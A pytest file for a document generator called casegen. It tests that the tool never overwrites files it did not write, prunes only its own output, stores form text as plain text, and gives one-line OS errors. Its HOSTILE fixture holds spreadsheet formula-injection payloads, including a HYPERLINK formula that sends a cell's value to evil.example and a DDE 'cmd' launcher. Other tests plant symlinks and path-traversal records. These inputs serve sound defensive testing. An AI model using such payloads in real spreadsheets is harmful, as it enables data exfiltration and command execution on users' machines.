"""Nothing lost, nothing let in (issue 17, items 1, 2, 3 and 8): casegen replaces only what it wrote, prunes
only its own plain files inside its output folder, writes a form's text as text (never a formula), and says
in one line what to do about an OS error."""
from __future__ import annotations

import csv
import errno
import os
import shutil
import sqlite3
import subprocess
import unicodedata
from decimal import Decimal
from pathlib import Path

import docx
import pytest
from openpyxl import Workbook, load_workbook

from casegen.batch.store import FILE, FOLDER
from casegen.fileio import document_properties
from casegen.intake.form import write_form
from casegen.sheetcells import put
from helpers import convert, digest, leftovers, run, sample_case

BCL, BRIEF = "bcl-service-optimisation", "brief-neighbourhood-working-model"
OLD_BCL = Path(__file__).parent / "fixtures" / "layout1" / f"{BCL}.xlsx"  # a form of an older layout, to upgrade
# What a form's text may start with that an office suite would run, or take for a formula, if not typed as text.
HOSTILE = {"title": '=HYPERLINK("http://evil.example/?x="&B3,"click")', "sponsor": "+1+cmd|' /C calc'!A0",
           "lead": "-2+3", "finance_lead": "@SUM(A1:A2)"}


@pytest.fixture
def forms(tmp_path, programme):
    """A folder with two sample forms."""
    folder = tmp_path / "inputs"
    for name in (BCL, BRIEF):
        case = sample_case(name, programme)
        write_form(case.kind, folder / f"{name}.xlsx", programme, case)
    return folder


def old_form(folder: Path, name: str = f"{BCL}.xlsx") -> Path:
    return Path(shutil.copy(OLD_BCL, folder / name))


def hand_typed(path: Path, text: str = "Typed by hand in Word") -> Path:
    """A Word document a person wrote (python-docx's, with no mark of casegen's)."""
    document = docx.Document()
    document.add_paragraph(text)
    document.core_properties.last_modified_by = "A. Person"
    document.save(path)
    return path


def words(path: Path) -> str:
    return "\n".join(p.text for p in docx.Document(path).paragraphs)


# 1. casegen never replaces a file it did not write

def test_portfolio_over_a_form_refuses_and_leaves_it_then_force_replaces_it(forms):
    form = forms / f"{BCL}.xlsx"
    before = digest(form)
    refused = run("portfolio", forms, "-o", form)
    assert refused.exit_code == 1
    assert f"{form} is in the way and is left as it was: it is not a tracker casegen wrote" in refused.output
    assert "--force" in refused.output and digest(form) == before
    forced = run("portfolio", forms, "-o", form, "--force")
    assert forced.exit_code == 0, forced.output
    assert load_workbook(form).sheetnames[0] == "Cases"


def test_a_tracker_is_replaced_by_the_next_portfolio_even_after_a_person_saved_it(forms, tmp_path):
    tracker = tmp_path / "tracker.xlsx"
    assert run("portfolio", forms, "-o", tracker).exit_code == 0
    wb = load_workbook(tracker)  # a person opens it and saves it again: the mark is a kept custom property
    wb["Cases"]["A1"] = "my note"
    wb.save(tracker)
    again = run("portfolio", forms, "-o", tracker)
    assert again.exit_code == 0, again.output
    assert load_workbook(tracker)["Cases"]["A1"].value != "my note"


@pytest.mark.slow
def test_a_tracker_saved_again_by_libreoffice_is_still_casegens(forms, tmp_path):
    tracker = tmp_path / "tracker.xlsx"
    assert run("portfolio", forms, "-o", tracker).exit_code == 0
    (saved,) = convert(tracker, tmp_path / "calc", "xlsx:Calc MS Excel 2007 XML")
    assert "LibreOffice" in document_properties(saved)["Application"]  # saved by Calc, as an office would
    shutil.copy(saved, tracker)
    again = run("portfolio", forms, "-o", tracker)
    assert again.exit_code == 0, again.output


def test_portfolio_summary_over_a_hand_typed_document_is_refused(forms, tmp_path):
    summary = hand_typed(tmp_path / "summary.docx")
    tracker = tmp_path / "tracker.xlsx"
    refused = run("portfolio", forms, "-o", tracker, "--summary", summary)
    assert refused.exit_code == 1 and f"{summary} is in the way" in refused.output
    assert words(summary) == "Typed by hand in Word" and not tracker.exists()  # refused before anything is written
    assert run("portfolio", forms, "-o", tracker, "--summary", summary, "--force").exit_code == 0
    assert "Typed by hand" not in words(summary)
    assert run("portfolio", forms, "-o", tracker, "--summary", summary).exit_code == 0  # its own: replaced


def test_build_fails_only_the_form_whose_document_name_is_taken_by_a_foreign_file(forms):
    typed = hand_typed(forms / f"{BCL}.docx")  # the lead's own document, beside the form `import` made of it
    result = run("build", forms, "-o", forms)
    assert result.exit_code == 1
    assert f"{typed} is in the way and is left as it was" in result.output
    assert "[build-foreign-file]" in result.output and "1 built, 0 up to date, 1 failed" in result.output
    assert words(typed) == "Typed by hand in Word" and (forms / f"{BRIEF}.docx").exists()
    assert not (forms / ".casegen" / "previous" / f"{BCL}.docx").exists()
    forced = run("build", forms, "-o", forms, "--force")
    assert forced.exit_code == 0, forced.output
    assert words(typed).startswith("Business Case Lite")


def test_build_pdf_does_not_replace_a_pdf_it_did_not_make(forms, tmp_path, monkeypatch):
    out = tmp_path / "out"
    out.mkdir()
    theirs = out / f"{BCL}.pdf"
    theirs.write_bytes(b"%PDF-1.4 a person's own")
    monkeypatch.setenv("PATH", str(tmp_path / "no-office"))  # refused before LibreOffice would be wanted
    result = run("build", forms, "-o", out, "--pdf")
    assert result.exit_code == 1
    assert f"{theirs} is in the way and is left as it was: it is there without its document" in result.output
    assert theirs.read_bytes() == b"%PDF-1.4 a person's own" and not (out / f"{BCL}.docx").exists()
    assert (out / f"{BRIEF}.docx").exists()


def test_casegen_documents_are_still_its_own_when_the_store_is_lost(forms, tmp_path):
    out = tmp_path / "out"
    assert run("build", forms, "-o", out).exit_code == 0
    (out / FOLDER / FILE).unlink()
    again = run("build", forms, "-o", out)
    assert again.exit_code == 0 and "2 built" in again.output, again.output


def test_a_document_saved_by_a_person_is_theirs_once_the_store_is_lost(forms, tmp_path):
    out = tmp_path / "out"
    assert run("build", forms, "-o", out).exit_code == 0
    (out / FOLDER / FILE).unlink()
    edited = docx.Document(out / f"{BCL}.docx")  # Word names the person as the last author
    edited.core_properties.last_modified_by = "A. Person"
    edited.save(out / f"{BCL}.docx")
    again = run("build", forms, "-o", out)
    assert again.exit_code == 1 and "a person has saved it since" in again.output


def test_a_symlinked_document_is_not_written_through(forms, tmp_path):
    out, victim = tmp_path / "out", hand_typed(tmp_path / "victim.docx")
    out.mkdir()
    (out / f"{BCL}.docx").symlink_to(victim)
    result = run("build", forms, "-o", out)
    assert result.exit_code == 1 and "it is a symbolic link" in result.output
    assert words(victim) == "Typed by hand in Word" and (out / f"{BCL}.docx").is_symlink()


def test_annotate_replaces_its_own_copy_but_not_a_file_of_that_name_it_did_not_write(forms):
    form = forms / f"{BCL}.xlsx"
    checked = forms / f"{BCL}.checked.xlsx"
    checked.write_bytes(b"someone else's notes")
    refused = run("validate", form, "--annotate")
    assert refused.exit_code == 1 and f"{checked} is in the way" in refused.output
    assert "[annotate-foreign-file]" in refused.output and checked.read_bytes() == b"someone else's notes"
    assert run("validate", form, "--annotate", "--force").exit_code == 0
    assert run("validate", form, "--annotate").exit_code == 0  # its own copy: replaced without asking
    assert "casegen problems" in load_workbook(checked).sheetnames


def test_new_and_import_refuse_an_existing_file(forms, tmp_path):
    form = forms / f"{BCL}.xlsx"
    before = digest(form)
    new = run("new", "bcl", form)
    assert new.exit_code == 1 and f"{form} already exists" in new.output and "--force" in new.output
    imported = run("import", hand_typed(tmp_path / "typed.docx"), "-o", form)
    assert imported.exit_code == 1 and f"{form} already exists" in imported.output
    assert digest(form) == before


def test_templates_export_with_force_replaces_a_link_not_the_file_it_points_at(tmp_path):
    office, victim = tmp_path / "office", tmp_path / "victim.toml"
    victim.write_text("mine")
    office.mkdir()
    (office / "programme.toml").symlink_to(victim)
    refused = run("templates", "export", office)
    assert refused.exit_code == 1 and "programme.toml" in refused.output
    assert run("templates", "export", office, "--force").exit_code == 0
    assert victim.read_text() == "mine" and not (office / "programme.toml").is_symlink()


# 2. Only casegen's names, only inside the output folder

def test_prune_removes_only_casegens_plain_files_inside_the_output_folder(forms, tmp_path):
    out = tmp_path / "out"
    assert run("build", forms, "-o", out).exit_code == 0
    victim = hand_typed(tmp_path / "victim.docx")
    outside = hand_typed(tmp_path / "elsewhere.docx")
    typed = hand_typed(out / "typed.docx")
    (out / "link.docx").symlink_to(hand_typed(tmp_path / "linked.docx"))
    db = sqlite3.connect(out / FOLDER / FILE)  # records naming what is not casegen's, as a hostile store might
    for name in ("../victim.docx", str(outside), f"../inputs/{BCL}.xlsx", "typed.docx", "link.docx"):
        db.execute("INSERT INTO documents (name, source, kind, form, template, config, casegen, facts, warnings, "
                   "sha256) SELECT ?, '../gone.xlsx', kind, form, template, config, casegen, facts, warnings, sha256 "
                   "FROM documents WHERE name = ?", (name, f"{BCL}.docx"))
    db.commit()
    db.close()
    before = {p: digest(p) for p in (victim, outside, typed, forms / f"{BCL}.xlsx", tmp_path / "linked.docx")}
    result = run("build", forms, "-o", out, "--prune")
    assert result.exit_code == 0, result.output
    assert {p: digest(p) for p in before} == before and (out / "link.docx").is_symlink()
    assert "'../victim.docx'" in result.output and "cannot be used; left out" in result.output
    assert f"{typed}: not pruned" in result.output and f"{out / 'link.docx'}: not pruned" in result.output
    again = run("build", forms, "-o", out, "--prune")  # reported once: the records are out of the store
    assert "not pruned" not in again.output and "cannot be used" not in again.output


def test_prune_still_removes_a_casegen_document_whose_form_is_gone(forms, tmp_path):
    out = tmp_path / "out"
    assert run("build", forms, "-o", out).exit_code == 0
    (forms / f"{BRIEF}.xlsx").unlink()
    pruned = run("build", forms, "-o", out, "--prune")
    assert pruned.exit_code == 0 and "1 pruned" in pruned.output
    assert not (out / f"{BRIEF}.docx").exists() and (out / f"{BCL}.docx").exists()


def test_nfc_and_nfd_spellings_of_one_name_are_one_document(tmp_path, programme):
    folder, out = tmp_path / "inputs", tmp_path / "out"
    case = sample_case(BCL, programme)
    for form in ("café", unicodedata.normalize("NFD", "café")):
        write_form(case.kind, folder / f"{form}.xlsx", programme, case)
    result = run("build", folder, "-o", out)
    assert result.exit_code == 1 and "[build-name-clash]" in result.output
    assert "1 built, 0 up to date, 1 failed" in result.output
    assert [p.name for p in out.glob("*.docx")] == ["café.docx"]  # composed: as a Mac and Windows show it


# 3. Text stays text

def hostile_form(folder: Path, programme, name: str = BCL) -> Path:
    case = sample_case(name, programme)
    for field, value in HOSTILE.items():
        setattr(case.project, field, value)
    case.risks[0].risk = "=1+1"
    return write_form(case.kind, folder / f"{name}.xlsx", programme, case)


def text_cells(ws, values) -> dict[str, str]:
    """The cells of `ws` holding one of `values`, with their type: 's' is text."""
    return {cell.value: cell.data_type for row in ws.iter_rows() for cell in row if cell.value in values}


def test_a_forms_text_is_text_in_every_sheet_of_the_tracker(tmp_path, programme):
    form = hostile_form(tmp_path / "inputs", programme)
    tracker = tmp_path / "tracker.xlsx"
    assert run("portfolio", form, "-o", tracker, "--as-of", "2030-01-01").exit_code == 0
    wb = load_workbook(tracker)
    assert text_cells(wb["Cases"], HOSTILE.values()) == {v: "s" for v in HOSTILE.values()}
    assert text_cells(wb["Risks"], [HOSTILE["title"], "=1+1"]) == {HOSTILE["title"]: "s", "=1+1": "s"}
    assert text_cells(wb["Pipeline"], [HOSTILE["title"]]) == {HOSTILE["title"]: "s"}  # an overdue gate's row
    net_total = wb["Cases"].cell(row=5, column=[c.value for c in wb["Cases"][4]].index("Net total") + 1)
    assert net_total.data_type == "f" and net_total.value.startswith("=SUM(")  # casegen's own totals stay formulas


def test_an_excluded_forms_text_is_text_on_the_problems_sheet(tmp_path, programme):
    form = hostile_form(tmp_path / "inputs", programme)
    wb = load_workbook(form)
    ws = wb["Project"]
    stage = next(c for row in ws.iter_rows() for c in row if c.value == "Stage 0: Opportunity Identified")
    stage.value, stage.data_type = "=WEBSERVICE(1)", "s"
    wb.save(form)
    tracker = tmp_path / "tracker.xlsx"
    assert run("portfolio", form, "-o", tracker).exit_code == 1
    problems = load_workbook(tracker)["Problems"]
    messages = [c for row in problems.iter_rows(min_row=5) for c in row if "=WEBSERVICE(1)" in str(c.value or "")]
    assert messages and all(c.data_type == "s" for c in messages)


def title_cell(path: Path):
    return next(c for row in load_workbook(path)["Project"].iter_rows() for c in row if c.value == HOSTILE["title"])


def test_an_upgraded_form_keeps_text_as_text(tmp_path):
    form = old_form(tmp_path)
    wb = load_workbook(form)
    cell = next(c for row in wb["Project"].iter_rows() for c in row if c.value == "Service Optimisation")
    cell.value, cell.data_type = HOSTILE["title"], "s"
    wb.save(form)
    result = run("upgrade", form)
    assert result.exit_code == 0 and "upgraded" in result.output, result.output
    assert title_cell(form).data_type == "s"


def test_annotated_imported_and_new_forms_keep_text_as_text(tmp_path, programme):
    form = hostile_form(tmp_path, programme)
    title = title_cell
    assert run("validate", form, "--annotate").exit_code in (0, 1)
    assert title(tmp_path / f"{BCL}.checked.xlsx").data_type == "s"
    assert run("build", form, "-o", tmp_path / "out").exit_code == 0
    assert run("import", tmp_path / "out" / f"{BCL}.docx", "-o", tmp_path / "imported.xlsx").exit_code in (0, 1)
    assert title(tmp_path / "imported.xlsx").data_type == "s"
    dumped = tmp_path / "case.json"
    dumped.write_text(run("dump", form).output)
    assert run("new", "bcl", tmp_path / "new.xlsx", "--data", dumped).exit_code == 0
    assert title(tmp_path / "new.xlsx").data_type == "s"


def test_the_cell_writer_types_text_as_text_whatever_its_first_character(tmp_path):
    starts = ["=A1", "+A1", "-A1", "@A1", "\tA1", "\rA1", "=1+1"]
    wb = Workbook()
    for i, text in enumerate(starts, start=1):
        put(wb.active, i, 1, text)
    put(wb.active, 1, 2, Decimal("12.50")), put(wb.active, 2, 2, Decimal("200000"))
    wb.save(tmp_path / "cells.xlsx")
    back = load_workbook(tmp_path / "cells.xlsx").active
    assert [(c.value, c.data_type) for c in back["A"]] == [(t, "s") for t in starts]
    assert [(c.value, c.data_type) for c in back["B"][:2]] == [(12.5, "n"), (200000, "n")]


@pytest.mark.slow
def test_libreoffice_shows_the_title_as_typed_not_its_result(tmp_path, programme):
    form = hostile_form(tmp_path / "inputs", programme)
    tracker = tmp_path / "tracker.xlsx"
    assert run("portfolio", form, "-o", tracker).exit_code == 0
    cases = convert(tracker, tmp_path / "csv", "csv")[0]  # the first sheet: Cases
    rows = list(csv.reader(cases.read_text(encoding="utf-8", errors="replace").splitlines()))
    values = {v for row in rows for v in row}
    assert set(HOSTILE.values()) <= values  # shown as typed: not "click", not 1, not an error


# 8. Messages, not tracebacks

def one_line_error(result, *words) -> None:
    assert result.exit_code == 1, result.output
    assert "Traceback" not in result.output and result.output.startswith("Error: ")
    for word in words:
        assert word in result.output, result.output


def test_output_under_a_regular_file_is_one_line_per_command(forms, tmp_path):
    blocker = tmp_path / "a-file"
    blocker.write_text("not a folder")
    hint = "a part of the path is a file, not a folder"
    one_line_error(run("portfolio", forms, "-o", blocker / "tracker.xlsx"), str(blocker), hint)
    one_line_error(run("new", "bcl", blocker / "x.xlsx"), str(blocker), hint)
    one_line_error(run("import", hand_typed(tmp_path / "typed.docx"), "-o", blocker / "x.xlsx", "--kind", "bcl"),
                   str(blocker), hint)
    one_line_error(run("templates", "export", blocker / "office"), str(blocker), hint)
    built = run("build", forms, "-o", blocker / "out")
    assert built.exit_code == 1 and str(blocker) in built.output and "Traceback" not in built.output


def test_a_folder_where_a_document_should_be_fails_that_form_even_with_force(forms, tmp_path):
    out = tmp_path / "out"
    (out / f"{BCL}.docx").mkdir(parents=True)
    result = run("build", forms, "-o", out)
    assert result.exit_code == 1 and f"{out / BCL}.docx is in the way" in result.output
    assert "it is a folder" in result.output
    forced = run("build", forms, "-o", out, "--force")  # a folder is never replaced
    assert forced.exit_code == 1 and "1 built, 0 up to date, 1 failed" in forced.output
    assert "it is a folder; move or rename it" in forced.output and (out / f"{BCL}.docx").is_dir()


def test_import_of_a_folder_goes_on_past_a_document_it_cannot_write(forms, tmp_path):
    docs, imported = tmp_path / "docs", tmp_path / "imported"
    assert run("build", forms, "-o", docs).exit_code == 0
    (imported / f"{BCL}.xlsx").mkdir(parents=True)  # a folder where the form should go
    result = run("import", docs, "-o", imported, "--force")
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert f"{imported / BCL}.xlsx: Is a directory; it is a folder: give the name of a file" in result.output
    assert (imported / f"{BRIEF}.xlsx").is_file() and not leftovers(imported)


def test_a_place_casegen_may_not_write_is_one_line(forms):
    try:  # root passes chmod; /sys refuses even root a new file
        Path("/sys/casegen-probe").write_text("")
        pytest.skip("/sys takes new files here")
    except OSError:
        pass
    one_line_error(run("portfolio", forms, "-o", "/sys/tracker.xlsx"), "/sys")
    one_line_error(run("new", "bcl", "/sys/x.xlsx"), "/sys")


@pytest.mark.parametrize("command", ["portfolio", "new", "import", "upgrade"])
def test_a_full_disk_is_one_line_and_leaves_the_files_as_they_were(command, forms, tmp_path, monkeypatch):
    form = shutil.copy(OLD_BCL, forms / f"{BCL}.xlsx")
    tracker = tmp_path / "tracker.xlsx"
    assert run("portfolio", forms, "-o", tracker).exit_code == 0
    before = digest(tmp_path)

    def full(src, dst):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), str(dst))

    typed = tmp_path / "typed.docx"
    monkeypatch.setattr(os, "replace", full)
    args = {"portfolio": ["portfolio", forms, "-o", tracker],
            "new": ["new", "bcl", tmp_path / "new.xlsx"],
            "import": ["import", typed, "-o", tmp_path / "imported.xlsx", "--kind", "bcl"],
            "upgrade": ["upgrade", form]}[command]
    if command == "import":
        monkeypatch.undo()
        hand_typed(typed)
        before = digest(tmp_path)
        monkeypatch.setattr(os, "replace", full)
    result = run(*args)
    assert result.exit_code == 1 and "the disk is full" in result.output and "Traceback" not in result.output
    monkeypatch.undo()
    after = {k: v for k, v in digest(tmp_path).items() if ".backup-" not in k}  # upgrade's copy, made first
    assert after == before and not leftovers(tmp_path)


@pytest.fixture
def small_disk(tmp_path):
    """A real 256 kB disk (tmpfs), for a real "No space left on device"; skipped where mounting is not allowed."""
    disk = tmp_path / "small-disk"
    disk.mkdir()
    mounted = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=256k", "tmpfs", str(disk)], capture_output=True)
    if mounted.returncode != 0:
        pytest.skip("cannot mount a small disk here (needs root)")
    try:
        yield disk
    finally:
        subprocess.run(["umount", str(disk)], check=True)


def test_a_really_full_disk_leaves_the_last_tracker_whole(forms, small_disk):
    tracker = small_disk / "tracker.xlsx"
    assert run("portfolio", forms, "-o", tracker).exit_code == 0
    before = digest(tracker)
    free = shutil.disk_usage(small_disk).free
    (small_disk / "filler").write_bytes(b"x" * max(free - tracker.stat().st_size // 2, 0))
    result = run("portfolio", forms, "-o", tracker)
    one_line_error(result, str(tracker), "No space left on device", "the disk is full")
    assert digest(tracker) == before and not leftovers(small_disk)


def test_a_full_disk_fails_only_the_annotated_copy_and_export_in_one_line(forms, tmp_path, monkeypatch):
    before = digest(forms)

    def full(src, dst):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), str(dst))

    monkeypatch.setattr(os, "replace", full)
    annotated = run("validate", forms, "--annotate")
    exported = run("templates", "export", tmp_path / "office")
    monkeypatch.undo()
    assert annotated.exit_code == 1 and "could not write the annotated copy" in annotated.output
    assert "No space left on device" in annotated.output and digest(forms) == before
    one_line_error(exported, "the disk is full")
    assert not leftovers(tmp_path)


def test_a_form_name_too_long_for_its_backup_is_one_line_and_the_form_is_left(tmp_path, programme):
    form = old_form(tmp_path, "x" * 240 + ".xlsx")
    before = digest(form)
    result = run("upgrade", form)
    one_line_error(result, "the name is too long")
    assert digest(form) == before and not leftovers(tmp_path)


# Upgrade: links and leftovers

def test_upgrade_through_a_link_upgrades_the_file_and_keeps_the_link(tmp_path, programme):
    (tmp_path / "real").mkdir()
    real = old_form(tmp_path / "real", "case.xlsx")
    link = tmp_path / "link.xlsx"
    link.symlink_to(real)
    result = run("upgrade", link)
    assert result.exit_code == 0, result.output
    assert link.is_symlink() and f"the file upgraded is {real}" in result.output
    assert list((tmp_path / "real").glob("case.backup-*.xlsx"))


def test_upgrade_sweeps_what_a_killed_upgrade_left_but_nothing_else(tmp_path, programme):
    form = old_form(tmp_path, "case.xlsx")
    stale = tmp_path / ".case.xlsx.abc123.part"
    stale.write_bytes(b"half a form")
    other = tmp_path / ".other.xlsx.abc123.part"
    other.write_bytes(b"not this form's")
    folder = tmp_path / ".case.xlsx.dir.part"
    folder.mkdir()
    assert run("upgrade", form).exit_code == 0
    assert not stale.exists() and other.exists() and folder.is_dir()


def test_upgrade_sweeps_the_form_writers_own_leftover_of_a_killed_upgrade(tmp_path, programme):
    form = old_form(tmp_path, "case.xlsx")
    nested = tmp_path / "..case.xlsx.k1ll3d00.part.w41t1ng0.part"  # the writer's temporary file of the new form
    nested.write_bytes(b"half a form")
    theirs = [tmp_path / ".notes.part", tmp_path / "..case.xlsx.mine.part", tmp_path / "..case.xlsx.k1ll3d00.part.x"]
    for path in theirs:
        path.write_bytes(b"a user's own")
    assert run("upgrade", form).exit_code == 0
    assert not nested.exists() and all(path.read_bytes() == b"a user's own" for path in theirs)


# the clean-up of a build: only names casegen makes, by their exact shape

def test_the_build_sweeps_its_own_leftovers_and_nothing_of_the_users(forms, tmp_path):
    out = tmp_path / "out"
    assert run("build", forms, "-o", out).exit_code == 0
    ours = [out / f".{BCL}.docx.k1ll3d00.part", out / f".{BCL}.pdf.k1ll3d00.part"]
    for path in ours:
        path.write_bytes(b"half a document")
    (out / ".casegen-pdf-k1ll3d00" / "profile").mkdir(parents=True)  # a killed LibreOffice's work folder
    theirs = [out / ".notes.part", out / ".casegen-build.pid", out / ".my.docx.part", out / "notes.docx.k1ll3d00.part"]
    for path in theirs:
        path.write_bytes(b"a user's own")
    (out / ".casegen-pdf-archive").mkdir()
    (out / ".casegen-pdf-archive" / "2025.pdf").write_bytes(b"%PDF a user's own")
    assert run("build", forms, "-o", out).exit_code == 0
    assert not any(path.exists() for path in ours) and not (out / ".casegen-pdf-k1ll3d00").exists()
    assert all(path.read_bytes() == b"a user's own" for path in theirs)
    assert (out / ".casegen-pdf-archive" / "2025.pdf").read_bytes() == b"%PDF a user's own"


def test_a_planted_link_at_the_old_pid_file_is_never_written(forms, tmp_path):
    out, thesis = tmp_path / "out", tmp_path / "thesis.txt"
    out.mkdir()
    thesis.write_text("my thesis")
    (out / ".casegen-build.pid").symlink_to(thesis)
    assert run("build", forms, "-o", out).exit_code == 0
    assert thesis.read_text() == "my thesis" and (out / ".casegen-build.pid").is_symlink()
